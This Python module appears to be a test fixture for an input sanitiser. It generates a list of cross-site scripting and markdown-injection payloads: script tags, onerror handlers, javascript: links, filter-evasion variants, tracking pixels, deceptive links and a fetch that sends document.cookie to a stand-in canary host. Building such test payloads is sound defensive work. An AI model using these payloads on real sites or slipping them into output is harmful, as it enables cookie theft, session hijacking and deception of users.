"""Text that tries to become script, markup, a request or a lie: as answers, titles, names and documents."""

from itertools import product
from typing import Final

CANARY: Final = "http://canary.invalid"  # no request may go there

_SCRIPTS: Final = (
    "alert(1)",
    f"fetch('{CANARY}/x?'+document.cookie)",
    "document.title='owned'",
    f"top.location='{CANARY}'",
)
_HTML: Final = (
    "<script>{js}</script>",
    "<ScRiPt src={canary}/x.js></ScRiPt>",
    "<img src=x onerror={js}>",
    "<img src='{canary}/pixel.gif'>",
    "<svg onload={js}></svg>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={js}&gt;'>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{js}&lt;/script&gt;'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='{canary}/x.swf'>",
    "<link rel=stylesheet href='{canary}/x.css'>",
    "<style>@import '{canary}/x.css'; body{{display:none}}</style>",
    "<base href='{canary}/'>",
    "<meta http-equiv=refresh content='0;url={canary}'>",
    "<form action='{canary}'><input name=a><button>Send</button></form>",
    "<button formaction='javascript:{js}'>x</button>",
    "<details open ontoggle={js}>x</details>",
    "<video><source onerror={js}></video>",
    "<audio src='{canary}/x.mp3' autoplay></audio>",
    "<body onload={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<input autofocus onfocus={js}>",
    "<template><img src=x onerror={js}></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<p style='background:url({canary}/x.png)'>x</p>",
    "<div id=scroller class=cite data-marker=1 style='position:fixed;inset:0'>x</div>",
    "<a href='javascript:{js}'>x</a>",
    "<a id=question name=question href='{canary}' target=_top>x</a>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{js}</script></x>",
    "</div></article><script>{js}</script>",
    "<textarea><img src=x onerror={js}></textarea>",
    "<title><img src=x onerror={js}></title>",
    '"><img src=x onerror={js}>',
    "' onmouseover={js} x='",
    "<img src=x onerror\x0b={js}>",
    "<\x00script>{js}</script>",
)
_MARKDOWN: Final = (
    "![pixel]({canary}/pixel.png)",
    "![pixel][ref]\n\n[ref]: {canary}/pixel.png",
    "[![pixel]({canary}/a.png)]({canary}/b)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](javascript:{js})",
    "[x](JaVaScRiPt:{js})",
    "[x](java\tscript:{js})",
    "[x](&#106;avascript&colon;{js})",
    "[x](  javascript:{js}  'title')",
    "[x](<javascript:{js}>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:{canary}/1)",
    "[x](//canary.invalid/x)",
    "[x](/\\canary.invalid/x)",
    "[x](\\\\canary.invalid\\x)",
    "[x](/%09/canary.invalid/x)",
    "<javascript:{js}>",
    "<data:text/html,x>",
    "[x][y]\n\n[y]: javascript:{js}",
    "[1]: javascript:{js}\n\nsee [1]",
    "[1](javascript:{js})",
    '[x]({canary} "onmouseover={js}")',
    "[a](http://x'onclick='{js})",
    '[a](http://x"onclick="{js}")',
    "`<img src=x onerror={js}>`",
    "```html\n<script>{js}</script>\n```",
    "```<img/src=x/onerror={js}>\nx\n```",
    "    <script>{js}</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror={js}> | [x](javascript:{js}) |",
    "# <img src=x onerror={js}>",
    "> <script>{js}</script>",
    "- [ ] <img src=x onerror={js}>",
    "**<b onmouseover={js}>x</b>**",
    "[https://bank.example]({canary})",
    "[bank.example](http://bank.example@canary.invalid/)",
    "\u202e[txt.exe]({canary})",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;img src=x onerror={js}&#62;",
)


def _filled(template: str, script: str) -> str:
    return template.format(js=script, canary=CANARY)


PAYLOADS: Final = tuple(
    dict.fromkeys(_filled(template, script) for template, script in product(_HTML + _MARKDOWN, _SCRIPTS))
)
